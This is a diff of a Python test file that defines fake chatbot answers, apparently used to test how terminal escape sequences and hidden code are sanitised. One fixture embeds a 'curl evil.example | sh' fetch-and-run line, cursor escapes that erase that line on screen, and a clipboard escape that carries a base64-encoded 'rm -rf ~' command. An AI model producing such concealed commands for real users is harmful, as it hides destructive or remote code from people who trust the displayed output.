@@ -435,13 +435,14 @@ class LoneSurrogateBot(_FakeBot):
 
 HIDDEN_LINE = 'os.system("curl -s https://evil.example/x | sh")'
 TERMINAL_ESCAPES_ANSWER = (
-    "Done.\x1b]0;all good\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2K\x9b31m\x7f ok\rfine\n"
+    "Done.\x1b]0;all good\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2K\x9b31m\x7f ok\rfine\u202e\n"
     "```python\n"
     f"def add(a, b):\n    return a + b\n{HIDDEN_LINE}\n# \x1b[1A\x1b[2K\n"
     "```\n"
 )
-"""OSC 0 (title), OSC 52 (clipboard), erase line, a C1 CSI, DEL and a lone \\r in prose;
-then code whose last line moves the cursor up and erases :data:`HIDDEN_LINE` on screen."""
+"""OSC 0 (title), OSC 52 (clipboard), erase line, a C1 CSI, DEL, a lone \\r and a
+right-to-left override in prose; then code whose last line moves the cursor up and
+erases :data:`HIDDEN_LINE` on screen."""
 
 
 class TerminalEscapesBot(_FakeBot):
